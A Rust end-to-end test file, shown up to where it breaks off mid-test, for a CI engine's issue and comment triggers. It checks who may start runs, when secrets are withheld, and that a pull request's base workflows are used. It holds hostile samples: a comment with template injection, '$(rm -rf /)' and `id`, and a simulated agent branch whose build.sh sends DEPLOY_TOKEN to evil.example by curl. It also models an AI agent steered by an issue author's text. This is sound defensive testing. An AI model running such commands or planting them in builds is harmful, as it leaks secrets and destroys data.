//! Issue and comment triggers end to end with the real `plue serve`, played by the people
//! who would abuse them: the real GitHub and Gitea `issues` / `issue_comment` payloads
//! (`tests/fixtures/webhooks/`), pointed at a repository made here and re-signed, and a
//! small stub of the forge's API answering the collaborator-permission and pull-request
//! lookups (and recording who asked, with which token).
//!
//! What is proven: only authors a trigger allows start runs — a comment by someone who is
//! not a collaborator starts nothing (and the delivery says why), a trigger with
//! `others="untrusted"` gives them a run without secrets; hostile comment text reaches the
//! step byte for byte as `PLUE_COMMENT_BODY`, never as a template; a comment on a pull
//! request evaluates the workflow files at the base, never the head; a duplicate delivery
//! starts one run; a bot's comment or one carrying Plue's marker starts nothing; when the
//! forge will not say which account the engine's token is (`GET /user` answers 403, as to
//! a GitHub App, or 500), no push or pull request gets secrets and no comment or issue
//! summons a run, and `GET /api/forges` says why.
//!
//! Why one file past ~600 lines: one abuser's walk over issue and comment triggers on one
//! fixture (signed real payloads, a stub forge API).

use crate::support;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::support::{
    client, deliver_webhook, git_sh, serial, wait_final, webhook_fixture, ForgeRepo, Sandbox,
};
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, Uri};
use serde_json::{json, Value};

const REPO: &str = "octo/hello";
const GITEA_REPO: &str = "octo/gitea-hello";
const SECRET: &str = "webhook-secret-of-octo-hello";
const FORGE_TOKEN: &str = "forge-token-for-lookups";

/// The real webhook fixture `path`, pointed at repository `repo` (default branch `main`).
fn fixture_on(path: &str, repo: &str) -> Value {
    let mut payload = webhook_fixture(path);
    payload["repository"]["full_name"] = json!(repo);
    payload["repository"]["default_branch"] = json!("main");
    payload
}

/// The step every summoned workflow runs: it writes what it got to files in `shared`.
fn script(shared: &Path) -> String {
    format!(
        r#"out={dir}/run-$PLUE_RUN_ID
printf '%s' "${{PLUE_COMMENT_BODY-<unset>}}" > "$out.comment"
printf '%s %s %s' "$PLUE_ISSUE_NUMBER" "$PLUE_ISSUE_AUTHOR" "$PLUE_ISSUE_TITLE" > "$out.issue"
if [ -n "${{DEPLOY_TOKEN:-}}" ]; then echo has > "$out.secret"; else echo none > "$out.secret"; fi"#,
        dir = shared.display()
    )
}

fn workflow(name: &str, triggers: &str, shared: &Path) -> String {
    format!(
        r#"
SCRIPT = {script:?}

def workflow(ctx):
    return Plan(name={name:?}, triggers=[{triggers}], steps=[
        Step.bash("echo", SCRIPT + "\necho 'event=" + ctx.event + " pr=" + (str(ctx.pr.number) if ctx.pr else "-") + "' > \"$out.ctx\"", secrets=["DEPLOY_TOKEN"]),
    ])
"#,
        script = script(shared)
    )
}

/// What the stub forge answers and what it was asked.
#[derive(Default)]
struct Stub {
    /// login → GitHub/Gitea `permission` value.
    permissions: BTreeMap<String, String>,
    /// pull request number → its API body.
    pulls: BTreeMap<u64, Value>,
    /// (path, Authorization header) of every request.
    asked: Vec<(String, String)>,
    /// The login `GET /user` names (the account the engine's token writes as).
    token_login: Option<String>,
    /// What `GET /user` answers instead, when set: a status that names no login.
    user_status: Option<u16>,
}

type Shared = Arc<Mutex<Stub>>;

async fn stub_forge() -> (String, Shared) {
    let shared: Shared = Arc::default();
    let app =
        axum::Router::new()
            .fallback(
                |State(stub): State<Shared>, uri: Uri, headers: HeaderMap| async move {
                    let path = uri.path().to_string();
                    let auth = headers
                        .get("authorization")
                        .and_then(|v| v.to_str().ok())
                        .unwrap_or_default()
                        .to_string();
                    let mut stub = stub.lock().unwrap();
                    stub.asked.push((path.clone(), auth));
                    let parts: Vec<&str> = path.trim_start_matches('/').split('/').collect();
                    if let (["user"], Some(status)) = (parts.as_slice(), stub.user_status) {
                        let message = json!({"message": "Resource not accessible by integration"});
                        return (StatusCode::from_u16(status).unwrap(), message.to_string());
                    }
                    let found = match parts.as_slice() {
                    // `owner/name:login` answers for that repository only, `login` for any.
                    ["repos", owner, name, "collaborators", user, "permission"] => stub
                        .permissions
                        .get(&format!("{owner}/{name}:{user}"))
                        .or_else(|| stub.permissions.get(*user))
                        .map(|p| json!({"permission": p, "role_name": p, "user": {"login": user}})),
                    ["user"] => stub.token_login.as_ref().map(|login| json!({"login": login})),
                    ["repos", _, _, "pulls", n] => n
                        .parse::<u64>()
                        .ok()
                        .and_then(|n| stub.pulls.get(&n).cloned()),
                    ["repos", _, _, "statuses", _] => Some(json!({})),
                    _ => None,
                };
                    match found {
                        Some(body) => (StatusCode::OK, body.to_string()),
                        None => (
                            StatusCode::NOT_FOUND,
                            json!({"message": "Not Found"}).to_string(),
                        ),
                    }
                },
            )
            .with_state(shared.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, shared)
}

async fn register(engine: &str, name: &str, forge: &str, clone_url: &str, api_url: &str) {
    ForgeRepo {
        name,
        forge,
        clone_url,
        api_url,
        webhook_secret: SECRET,
        api_token: FORGE_TOKEN,
    }
    .register(engine)
    .await;
    support::put_repo_secret(engine, name, "DEPLOY_TOKEN", "s3cr3t-deploy-value").await;
}

/// A GitHub `issue_comment` from the real fixture: `login` (with `association`) comments
/// `body` on issue (or, with `pull`, pull request) `number`.
fn github_comment(login: &str, association: &str, body: &str, number: u64, pull: bool) -> Value {
    let mut payload = fixture_on("github/issue_comment-created.json", REPO);
    payload["issue"]["number"] = json!(number);
    if pull {
        payload["issue"]["pull_request"] = json!({
            "url": format!("https://api.github.com/repos/{REPO}/pulls/{number}"),
            "html_url": format!("https://github.com/{REPO}/pull/{number}"),
            "merged_at": null,
        });
    }
    // Each call is a comment of its own (a comment summons once, by its id).
    static NEXT_ID: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1000);
    let id = NEXT_ID.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    payload["comment"]["id"] = json!(id);
    payload["comment"]["body"] = json!(body);
    payload["comment"]["user"]["login"] = json!(login);
    payload["comment"]["author_association"] = json!(association);
    payload["sender"]["login"] = json!(login);
    payload
}

/// What run `run` wrote to `shared` (`what`: comment, issue, secret, ctx).
fn wrote(shared: &Path, run: i64, what: &str) -> String {
    std::fs::read_to_string(shared.join(format!("run-{run}.{what}")))
        .unwrap_or_else(|e| panic!("run {run} wrote no {what}: {e}"))
}

struct World {
    sb: Sandbox,
    url: String,
    origin: PathBuf,
    shared: PathBuf,
    stub: Shared,
}

impl World {
    async fn new() -> World {
        let sb = Sandbox::new("summon");
        sb.shared("ready");
        let shared = sb.path("shared");
        let origin = sb.path("origin");
        let summon = workflow(
            "Summon",
            r#"Trigger.on_comment(pattern=r"^/plue\s+echo\b"), Trigger.on_issue(actions=["opened", "labeled"], labels=["plue"])"#,
            &shared,
        );
        let try_it = workflow(
            "Try",
            r#"Trigger.on_comment(pattern=r"^/plue\s+try\b", others="untrusted")"#,
            &shared,
        );
        let files = [
            (".plue/summon.plue.py", summon.as_str()),
            (".plue/try.plue.py", try_it.as_str()),
        ];
        support::git_repo(&origin, &files);
        let (stub_url, stub) = stub_forge().await;
        // The account the repositories' token writes as, which the forge names (until a
        // test makes it refuse to).
        stub.lock().unwrap().token_login = Some("plue-writer".into());
        let engine = sb
            .serve_engine(&["--runners", "2", "--public-url", "https://plue.example.com"])
            .await;
        let url = engine.url.clone();
        let clone = origin.to_str().unwrap();
        register(&url, REPO, "github", clone, &stub_url).await;
        register(&url, GITEA_REPO, "gitea", clone, &stub_url).await;
        World {
            sb,
            url,
            origin,
            shared,
            stub,
        }
    }

    async fn deliver(&self, forge: &str, event: &str, id: &str, body: &Value) -> Value {
        let (status, answer) = deliver_webhook(&self.url, forge, event, id, body, SECRET).await;
        assert_eq!(status, 200, "{answer}");
        answer
    }

    /// [`World::deliver`] of a GitHub `issue_comment` delivery `id`.
    async fn comment(&self, id: &str, body: &Value) -> Value {
        self.deliver("github", "issue_comment", id, body).await
    }

    /// The forge's API says from now on that `login` holds `permission` on the repository.
    fn forge_says(&self, login: &str, permission: &str) {
        let mut stub = self.stub.lock().unwrap();
        stub.permissions.insert(login.into(), permission.into());
    }

    async fn finished(&self, run: i64) -> Value {
        wait_final(&client(), &self.url, run, Duration::from_secs(90)).await
    }

    /// The one run a delivery's `answer` started (asserting there is exactly one), once it
    /// has [`World::finished`]: its id and view.
    async fn the_one_run(&self, answer: &Value) -> (i64, Value) {
        let runs = support::run_ids(answer);
        assert_eq!(runs.len(), 1, "{answer}");
        (runs[0], self.finished(runs[0]).await)
    }

    /// A Plue user `name` linked to the GitHub login `login`, holding `role` on the
    /// repository.
    async fn person(&self, name: &str, login: &str, role: &str) {
        support::create_person(&self.url, name).await;
        support::link_forge_login(&self.url, name, "github", login).await;
        support::put_member(&self.url, REPO, name, role).await;
    }

    fn head(&self) -> String {
        git_sh(&self.origin, "git rev-parse main")
    }

    /// Adds a CI workflow on main that runs on every push and pull request and writes
    /// whether its step got the secret; main's new head.
    fn add_ci(&self) -> String {
        let ci = format!(
            r#"
def workflow(ctx):
    return Plan(name="CI", triggers=[Trigger.on_push(), Trigger.on_pull_request()], steps=[
        Step.bash("test", {script:?}, secrets=["DEPLOY_TOKEN"]),
    ])
"#,
            script = format!(
                r#"if [ -n "${{DEPLOY_TOKEN:-}}" ]; then echo has; else echo none; fi > {}/run-$PLUE_RUN_ID.secret"#,
                self.shared.display()
            )
        );
        std::fs::write(self.origin.join(".plue/ci.plue.py"), ci).unwrap();
        git_sh(&self.origin, "git add -A && git commit -qm ci");
        self.head()
    }

    /// The branch `branch` an agent's proposal became (a build script that sends the
    /// secret away), from main; its head.
    fn agent_branch(&self, branch: &str) -> String {
        git_sh(
            &self.origin,
            &format!("git checkout -q -b {branch} && echo 'curl https://evil.example/?t=$DEPLOY_TOKEN' > build.sh && git add -A && git commit -qm agent && git checkout -q main"),
        );
        git_sh(&self.origin, &format!("git rev-parse {branch}"))
    }

    /// What each run a delivery's `answer` started wrote about the secret, once finished,
    /// asserting each run's `secrets_allowed` is `allowed`.
    async fn secrets_of(&self, answer: &Value, allowed: bool) -> Vec<String> {
        let mut secrets = Vec::new();
        for run in support::run_ids(answer) {
            let view = self.finished(run).await;
            assert_eq!(view["secrets_allowed"], allowed, "{view}");
            secrets.push(wrote(&self.shared, run, "secret"));
        }
        secrets
    }

    /// `GET /api/forges`: the entry of repository `repo`.
    async fn identity_of(&self, repo: &str) -> Value {
        let listed = support::get_json(&client(), &format!("{}/api/forges", self.url)).await;
        listed
            .as_array()
            .unwrap()
            .iter()
            .find(|entry| entry["repository"] == repo)
            .cloned()
            .unwrap_or_else(|| panic!("{repo} in {listed}"))
    }
}

/// A GitHub push of `after` to `git_ref` by `pusher`.
fn github_push(pusher: &str, git_ref: &str, after: &str) -> Value {
    let mut push = fixture_on("github/push-new-branch.json", REPO);
    push["ref"] = json!(git_ref);
    push["after"] = json!(after);
    push["pusher"]["name"] = json!(pusher);
    push["sender"]["login"] = json!(pusher);
    push
}

/// The GitHub pull request #`number` `author` opened from `branch` (at `head`) into main
/// (at `base`), in the repository itself.
fn github_pull_request(number: u64, author: &str, branch: &str, head: &str, base: &str) -> Value {
    let mut opened = webhook_fixture("github/pull_request-opened.json");
    opened["repository"]["full_name"] = json!(REPO);
    opened["number"] = json!(number);
    let pr = &mut opened["pull_request"];
    pr["number"] = json!(number);
    pr["user"]["login"] = json!(author);
    pr["head"]["ref"] = json!(branch);
    pr["head"]["sha"] = json!(head);
    pr["head"]["repo"]["full_name"] = json!(REPO);
    pr["base"]["ref"] = json!("main");
    pr["base"]["sha"] = json!(base);
    pr["base"]["repo"]["full_name"] = json!(REPO);
    opened["sender"]["login"] = json!(author);
    opened
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_the_authors_a_trigger_allows_summon_it_and_their_text_stays_data() {
    let _serial = serial().await;
    let world = World::new().await;
    let main_sha = world.head();

    // An owner's comment full of what a template, a shell or a terminal would act on: one
    // run, with secrets, that gets the text byte for byte.
    let hostile = "/plue echo {{ steps.x.outputs.y }} {{ raw steps.x.outputs.y }} $(rm -rf /) `id` \u{202e}gnp.exe\u{2066} {% raw %}{% endraw %} \\{{ 'quote\"";
    let comment = github_comment("Codertocat", "OWNER", hostile, 1, false);
    let answer = world.comment("c-1", &comment).await;
    let (id, run) = world.the_one_run(&answer).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["workflow"], "Summon");
    assert_eq!(run["event"], "comment");
    assert_eq!(run["sha"], main_sha.as_str(), "the default branch's head");
    assert_eq!(run["secrets_allowed"], true);
    assert_eq!(wrote(&world.shared, id, "comment"), hostile);
    assert_eq!(wrote(&world.shared, id, "secret"), "has\n");
    assert_eq!(
        wrote(&world.shared, id, "issue"),
        "1 Codertocat Spelling error in the README file"
    );
    assert_eq!(wrote(&world.shared, id, "ctx"), "event=comment pr=-\n");

    // Signed with anything but the repository's secret: refused before it is read.
    let (status, forged) = deliver_webhook(
        &world.url,
        "github",
        "issue_comment",
        "c-forged",
        &comment,
        "guess",
    )
    .await;
    assert_eq!(status, 401, "{forged}");

    // The same delivery again: the runs of the first, nothing new.
    let again = world.comment("c-1", &comment).await;
    assert_eq!(again["duplicate"], true, "{again}");
    assert_eq!(support::run_ids(&again), [id]);
    // The same comment under a new delivery id (a forge's redelivery): no second run.
    let redelivered = world.comment("c-1-again", &comment).await;
    assert_eq!(support::run_ids(&redelivered), [id], "{redelivered}");
    assert!(
        redelivered["refused"]
            .to_string()
            .contains("delivered already"),
        "{redelivered}"
    );

    // A stranger (association NONE, the forge says not a collaborator): nothing starts,
    // and the answer says why.
    let stranger = github_comment("mallory", "NONE", "/plue echo hi", 1, false);
    let answer = world.comment("c-2", &stranger).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");
    let refused = answer["refused"].to_string();
    assert!(
        refused.contains("mallory may not start it") && refused.contains("authors=\\\"write\\\""),
        "{answer}"
    );
    // The forge was asked, with the repository's token in the header only.
    let asked = world.stub.lock().unwrap().asked.clone();
    let lookup = asked
        .iter()
        .find(|(path, _)| path.ends_with("/collaborators/mallory/permission"))
        .unwrap_or_else(|| panic!("{asked:?}"));
    assert_eq!(lookup.1, format!("Bearer {FORGE_TOKEN}"));
    assert!(!lookup.0.contains(FORGE_TOKEN));

    // The same stranger on a trigger with others="untrusted": a run like a fork's, without
    // the secret.
    let tried = github_comment("mallory", "NONE", "/plue try it", 1, false);
    let answer = world.comment("c-3", &tried).await;
    let (id, run) = world.the_one_run(&answer).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["workflow"], "Try");
    assert_eq!(run["secrets_allowed"], false);
    assert_eq!(wrote(&world.shared, id, "secret"), "none\n");

    // A collaborator the payload does not vouch for (NONE) but the forge's API does.
    world.forge_says("carol", "write");
    let carol = github_comment("carol", "NONE", "/plue echo from carol", 1, false);
    let answer = world.comment("c-4", &carol).await;
    assert_eq!(support::run_ids(&answer).len(), 1, "{answer}");
    // Asked again within a minute: the forge's answer is remembered, not asked twice.
    let again = github_comment("carol", "NONE", "/plue echo again", 1, false);
    let answer = world.comment("c-4b", &again).await;
    assert_eq!(support::run_ids(&answer).len(), 1, "{answer}");
    let asked = world.stub.lock().unwrap().asked.clone();
    let carols = asked
        .iter()
        .filter(|(path, _)| path.ends_with("/collaborators/carol/permission"))
        .count();
    assert_eq!(carols, 1, "{asked:?}");
    // A reader is not enough.
    world.forge_says("rita", "read");
    let rita = github_comment("rita", "CONTRIBUTOR", "/plue echo", 1, false);
    let answer = world.comment("c-5", &rita).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");

    // Forge logins linked to Plue users: a writer of the repository may summon, a reader
    // may not (the forge's API knows neither), and a bot linked to a writer may.
    for (user, login, role) in [
        ("wendy", "wendy-gh", "writer"),
        ("rob", "rob-gh", "reader"),
        ("helper", "helper-bot", "writer"),
    ] {
        world.person(user, login, role).await;
    }
    let wendy = github_comment("wendy-gh", "NONE", "/plue echo as a writer", 1, false);
    let answer = world.comment("l-1", &wendy).await;
    assert_eq!(support::run_ids(&answer).len(), 1, "{answer}");
    let rob = github_comment("rob-gh", "NONE", "/plue echo as a reader", 1, false);
    let answer = world.comment("l-2", &rob).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");
    assert!(
        answer["refused"]
            .to_string()
            .contains("holds read (linked Plue user 'rob')"),
        "{answer}"
    );
    let mut linked_bot = github_comment("helper-bot", "NONE", "/plue echo", 1, false);
    linked_bot["comment"]["user"]["type"] = json!("Bot");
    let answer = world.comment("l-3", &linked_bot).await;
    assert_eq!(support::run_ids(&answer).len(), 1, "{answer}");

    // Plue's own answer (its marker) and a bot never summon, whatever they say.
    let marked = github_comment(
        "Codertocat",
        "OWNER",
        "/plue echo again\n<!-- plue:answer run=1 -->",
        1,
        false,
    );
    let answer = world.comment("c-6", &marked).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");
    let mut bot = github_comment("other-bot", "OWNER", "/plue echo", 1, false);
    bot["comment"]["user"]["type"] = json!("Bot");
    let answer = world.comment("c-7", &bot).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");
    assert!(answer["refused"].to_string().contains("bot"), "{answer}");

    // An issue labeled `plue` by its owner.
    let mut labeled = fixture_on("github/issues-labeled.json", REPO);
    labeled["label"]["name"] = json!("plue");
    let answer = world.deliver("github", "issues", "i-1", &labeled).await;
    let (id, run) = world.the_one_run(&answer).await;
    assert_eq!(run["event"], "issue");
    assert_eq!(wrote(&world.shared, id, "comment"), "<unset>");
    // Labeled `bug`: no trigger asks for it.
    labeled["label"]["name"] = json!("bug");
    let answer = world.deliver("github", "issues", "i-2", &labeled).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");
    drop(world.sb);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_comment_on_a_pull_request_evaluates_the_workflows_of_its_base() {
    let _serial = serial().await;
    let world = World::new().await;
    let main_sha = world.head();
    // The pull request's head rewrites the workflow to run for anyone, under another
    // name: never read.
    let evil = workflow(
        "Evil",
        r#"Trigger.on_comment(pattern=".*", others="untrusted")"#,
        &world.shared,
    );
    std::fs::write(world.origin.join(".plue/summon.plue.py"), evil).unwrap();
    git_sh(
        &world.origin,
        "git checkout -q -b feature && git commit -qam evil && git checkout -q main",
    );
    let head_sha = git_sh(&world.origin, "git rev-parse feature");
    world.stub.lock().unwrap().pulls.insert(
        5,
        json!({
            "number": 5,
            "base": {"ref": "main", "sha": main_sha},
            "head": {"ref": "feature", "sha": head_sha},
        }),
    );
    let comment = github_comment("Codertocat", "OWNER", "/plue echo on the PR", 5, true);
    let answer = world.comment("p-1", &comment).await;
    let (id, run) = world.the_one_run(&answer).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(
        run["workflow"], "Summon",
        "the base's workflow, not the head's"
    );
    assert_eq!(run["sha"], main_sha.as_str());
    assert_eq!(wrote(&world.shared, id, "ctx"), "event=comment pr=5\n");
    // A stranger's comment on the same pull request: the head's `.*` for anyone is not
    // what counts; the base's trigger wants a writer.
    let stranger = github_comment("mallory", "NONE", "/plue echo", 5, true);
    let answer = world.comment("p-2", &stranger).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");

    // Gitea's real comment on a pull request: the same lookup, Gitea's token scheme.
    world.forge_says("example", "write");
    world.stub.lock().unwrap().pulls.insert(
        2,
        json!({
            "number": 2,
            "base": {"ref": "main", "sha": main_sha},
            "head": {"ref": "feature", "sha": head_sha},
        }),
    );
    let mut gitea = fixture_on(
        "gitea/issue_comment-created-on-pull-request.json",
        GITEA_REPO,
    );
    gitea["comment"]["body"] = json!("/plue echo from gitea");
    let answer = world.deliver("gitea", "issue_comment", "g-1", &gitea).await;
    let (id, run) = world.the_one_run(&answer).await;
    assert_eq!(run["workflow"], "Summon");
    assert_eq!(run["sha"], main_sha.as_str());
    assert_eq!(wrote(&world.shared, id, "comment"), "/plue echo from gitea");
    let asked = world.stub.lock().unwrap().asked.clone();
    assert!(
        asked.iter().any(
            |(path, auth)| path.ends_with("/repos/octo/gitea-hello/pulls/2")
                && auth == &format!("token {FORGE_TOKEN}")
        ),
        "{asked:?}"
    );
    // Gitea's issue label event by a user the forge does not know: nothing.
    let mut labeled = fixture_on("gitea/issues-label_updated.json", GITEA_REPO);
    labeled["issue"]["labels"][0]["name"] = json!("plue");
    labeled["sender"]["login"] = json!("stranger");
    let answer = world.deliver("gitea", "issues", "g-2", &labeled).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");
    // By `example`, who may write: a run.
    labeled["sender"]["login"] = json!("example");
    let answer = world.deliver("gitea", "issues", "g-3", &labeled).await;
    assert_eq!(support::run_ids(&answer).len(), 1, "{answer}");
    drop(world.sb);
}

// The attacker cannot sign a payload, but chooses what the forge puts in one: whose issue a
// comment is on, who else is named, and — through an agent's proposals — what the engine
// itself does on the forge. None of it makes somebody a writer.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn borrowed_standing_and_the_engines_own_writing_summon_nothing() {
    let _serial = serial().await;
    let world = World::new().await;
    {
        let mut stub = world.stub.lock().unwrap();
        // The account the repositories' token writes as: a writer, as it must be to add
        // labels and comments.
        stub.token_login = Some("plue-writer".into());
        stub.permissions
            .insert("plue-writer".into(), "write".into());
        // carol writes to octo/hello only.
        stub.permissions
            .insert(format!("{REPO}:carol"), "write".into());
    }
    let nothing = |answer: &Value, what: &str| {
        assert_eq!(
            support::run_ids(answer),
            Vec::<i64>::new(),
            "{what}: {answer}"
        );
    };

    // mallory comments on an issue its OWNER opened: the issue's association is not hers.
    let mut comment = github_comment("mallory", "NONE", "/plue echo", 1, false);
    comment["issue"]["author_association"] = json!("OWNER");
    let answer = world.comment("a-1", &comment).await;
    nothing(&answer, "the issue author's association");
    // ... nor is the sender's, when the forge names an owner as sender of her comment.
    let mut comment = github_comment("mallory", "NONE", "/plue echo", 1, false);
    comment["sender"]["login"] = json!("Codertocat");
    let answer = world.comment("a-2", &comment).await;
    nothing(&answer, "an owner as sender");
    // An issue mallory opened, labeled `plue` by a sender the payload calls OWNER only
    // through the issue (mallory's issue, OWNER's label — reversed): the sender is mallory.
    let mut labeled = fixture_on("github/issues-labeled.json", REPO);
    labeled["label"]["name"] = json!("plue");
    labeled["issue"]["user"]["login"] = json!("Codertocat");
    labeled["issue"]["author_association"] = json!("OWNER");
    labeled["sender"]["login"] = json!("mallory");
    let answer = world.deliver("github", "issues", "a-3", &labeled).await;
    nothing(&answer, "the issue author's association for the labeler");

    // A Gitea payload delivered to the GitHub endpoint (Gitea sends X-GitHub-Event too),
    // with a GitHub-only association the forge would never send for this commenter.
    let mut gitea = fixture_on("gitea/issue_comment-created.json", GITEA_REPO);
    gitea["comment"]["body"] = json!("/plue echo");
    gitea["comment"]["user"]["login"] = json!("mallory");
    gitea["sender"]["login"] = json!("mallory");
    let answer = world.comment("a-4", &gitea).await;
    nothing(&answer, "a Gitea payload at the GitHub endpoint");

    // carol's standing on octo/hello is cached; on the Gitea repository (same login, other
    // case) the forge says nothing: the cache does not carry it across.
    let carol = github_comment("carol", "NONE", "/plue echo", 1, false);
    let answer = world.comment("a-5", &carol).await;
    assert_eq!(support::run_ids(&answer).len(), 1, "{answer}");
    let mut gitea_carol = gitea.clone();
    gitea_carol["comment"]["id"] = json!(777_001);
    gitea_carol["comment"]["user"]["login"] = json!("Carol");
    gitea_carol["sender"]["login"] = json!("Carol");
    let answer = world
        .deliver("gitea", "issue_comment", "a-6", &gitea_carol)
        .await;
    nothing(&answer, "carol's cached standing on another repository");

    // Read access only: an outside collaborator invited to read (association COLLABORATOR)
    // and a member of the owning organisation whom the repository grants nothing (MEMBER).
    // Where the forge can be asked, it decides; a collaborator it says writes may summon.
    world.forge_says("rhea", "read");
    let reader = github_comment("rhea", "COLLABORATOR", "/plue echo", 1, false);
    let answer = world.comment("r-1", &reader).await;
    nothing(&answer, "a collaborator who may only read");
    assert!(
        answer["refused"].to_string().contains("holds read"),
        "{answer}"
    );
    let member = github_comment("mona", "MEMBER", "/plue echo", 1, false);
    let answer = world.comment("r-2", &member).await;
    nothing(
        &answer,
        "an organisation member the repository grants nothing",
    );
    world.forge_says("wes", "write");
    let writer = github_comment("wes", "COLLABORATOR", "/plue echo", 1, false);
    let answer = world.comment("r-3", &writer).await;
    assert_eq!(support::run_ids(&answer).len(), 1, "{answer}");

    // The engine's own writing. On Gitea a label change names no label and no account is
    // a bot: the label the engine adds for an agent's proposal (sent by the token's
    // account, a writer) would re-match `labels=["plue"]` while `plue` stays on the issue
    // — one run per run, for ever.
    let mut relabeled = fixture_on("gitea/issues-label_updated.json", GITEA_REPO);
    relabeled["issue"]["labels"][0]["name"] = json!("plue");
    relabeled["sender"]["login"] = json!("plue-writer");
    let answer = world.deliver("gitea", "issues", "e-1", &relabeled).await;
    nothing(&answer, "a Gitea label change by the engine's account");
    assert!(
        answer["refused"]
            .to_string()
            .contains("Plue writes to the forge as"),
        "{answer}"
    );
    // On GitHub: a label the engine adds that a trigger lists, in another case; and the
    // account's comment without the marker (an agent's text posted by the engine).
    labeled["sender"]["login"] = json!("Plue-Writer");
    labeled["sender"]["type"] = json!("User");
    let answer = world.deliver("github", "issues", "e-2", &labeled).await;
    nothing(&answer, "a GitHub label added by the engine's account");
    let own = github_comment("plue-writer", "COLLABORATOR", "/plue echo", 1, false);
    let answer = world.comment("e-3", &own).await;
    nothing(&answer, "a comment by the engine's account");
    // The engine asked who it is with the token, in the header only, once per repository
    // within the cache's minute.
    let asked = world.stub.lock().unwrap().asked.clone();
    let whoami: Vec<_> = asked.iter().filter(|(path, _)| path == "/user").collect();
    assert!(!whoami.is_empty() && whoami.len() <= 2, "{asked:?}");
    assert!(whoami.iter().all(|(_, auth)| auth.ends_with(FORGE_TOKEN)));
    drop(world.sb);
}

// An issue's author cannot write the repository, but the agent a writer summons reads the
// issue and proposes a change the engine pushes and opens as a pull request — with the
// token's account, in the repository itself, so not a fork. The change may rewrite the
// build and tests (no deny list covers them): a CI workflow running them with the
// repository's secrets would run the issue author's code with them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_the_engine_pushes_and_opens_runs_without_secrets() {
    let _serial = serial().await;
    let world = World::new().await;
    let main_sha = world.add_ci();
    let branch = "plue/comment-1-fix";
    let head = world.agent_branch(branch);

    // A person's push: the secret (the control).
    let push = github_push("Codertocat", "refs/heads/main", &main_sha);
    let answer = world.deliver("github", "push", "s-1", &push).await;
    assert_eq!(world.secrets_of(&answer, true).await, ["has\n"], "{answer}");

    // The engine's push of the agent's branch (as the token's account, in another case).
    let push = github_push("Plue-Writer", &format!("refs/heads/{branch}"), &head);
    let answer = world.deliver("github", "push", "s-2", &push).await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );

    // The pull request the engine opened from it, in the repository itself.
    let opened = github_pull_request(7, "plue-writer", branch, &head, &main_sha);
    let answer = world
        .deliver("github", "pull_request", "s-3", &opened)
        .await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );
    drop(world.sb);
}

// Issue 69: an accepted proposal labelled a writer's pull request; the `labeled` delivery
// names the engine as its sender and the pull request's author as a person. A workflow
// gated on that label ran the pull request's code with the repository's secret: the label
// stood for a person's decision and the engine made it. Whoever else the payload names, a
// pull request event or push the engine caused runs like a fork's; the same label added
// by a person, and the person's own push, get the secret.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_label_or_push_the_engine_adds_to_a_persons_work_runs_without_secrets() {
    let _serial = serial().await;
    let world = World::new().await;
    let gate = format!(
        r#"
def workflow(ctx):
    return Plan(name="Deploy", triggers=[Trigger.on_pull_request(actions=["labeled"])], steps=[
        Step.bash("deploy", {script:?}, secrets=["DEPLOY_TOKEN"]),
    ])
"#,
        script = format!(
            r#"if [ -n "${{DEPLOY_TOKEN:-}}" ]; then echo has; else echo none; fi > {}/run-$PLUE_RUN_ID.secret"#,
            world.shared.display()
        )
    );
    std::fs::write(world.origin.join(".plue/deploy.plue.py"), gate).unwrap();
    git_sh(&world.origin, "git add -A && git commit -qm deploy-gate");
    let main_sha = world.add_ci();
    git_sh(
        &world.origin,
        "git checkout -q -b feature && echo change > change.txt && git add -A && git commit -qm change && git checkout -q main",
    );
    let head = git_sh(&world.origin, "git rev-parse feature");
    let labeled = |sender: &str| {
        let mut labeled = github_pull_request(9, "Codertocat", "feature", &head, &main_sha);
        labeled["action"] = json!("labeled");
        labeled["label"] = json!({"name": "deploy"});
        labeled["sender"]["login"] = json!(sender);
        labeled
    };

    // The control: a person labels it — the secret.
    let answer = world
        .deliver("github", "pull_request", "l-1", &labeled("Octocat"))
        .await;
    assert_eq!(world.secrets_of(&answer, true).await, ["has\n"], "{answer}");

    // The engine's own label on the same person's pull request — in another case, as the
    // forge may write the login.
    let answer = world
        .deliver("github", "pull_request", "l-2", &labeled("PLUE-writer"))
        .await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );

    // The engine pushing onto a person's pull request (`synchronize`, sender the engine).
    let mut pushed = github_pull_request(9, "Codertocat", "feature", &head, &main_sha);
    pushed["action"] = json!("synchronize");
    pushed["sender"]["login"] = json!("plue-writer");
    let answer = world
        .deliver("github", "pull_request", "l-3", &pushed)
        .await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );

    // A push whose pusher is a person but whose sender is the engine.
    let mut push = github_push("Codertocat", "refs/heads/main", &main_sha);
